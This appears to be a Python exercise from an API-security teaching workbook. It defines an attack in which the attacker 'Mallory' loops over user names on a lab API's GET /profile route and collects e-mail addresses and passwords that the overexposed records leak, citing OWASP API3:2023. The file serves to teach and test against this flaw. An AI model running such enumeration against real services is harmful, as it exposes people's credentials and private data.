"""Mallory loops over user names and keeps what comes back.

It works because the API sends whole records: whoever knows a name gets e-mail and password too.
"""

from workbook.attacking import Api, attack

NAMES = ("alice", "bob", "olga")


@attack(
    "Read e-mail addresses and passwords out of every profile",
    route="GET /profile",
    closes=1,
    see="OWASP API3:2023",
)
def read_every_profile(api: Api) -> str | None:
    """Ask for every profile and look for what should be private."""
    private = ["@example.com", "violin-in-winter", "seven-green-kites", "keeper-of-the-keys"]
    if api.post("/register", json={}, caller="mallory").status not in (404, 405):
        private += [api.alice.password, api.bob.password]  # Olga is there from lesson 7 on
    loot = {}
    for name in NAMES:
        seen = api.get("/profile", params={"username": name}, caller="mallory")
        if told := [secret for secret in private if secret in seen.text]:
            loot[name.capitalize()] = told
    secrets = ", ".join(sorted({secret for told in loot.values() for secret in told}))
    people = "1 person" if len(loot) == 1 else f"{len(loot)} people"
    return f"private data of {people}, {', '.join(loot)}: {secrets}" if loot else None
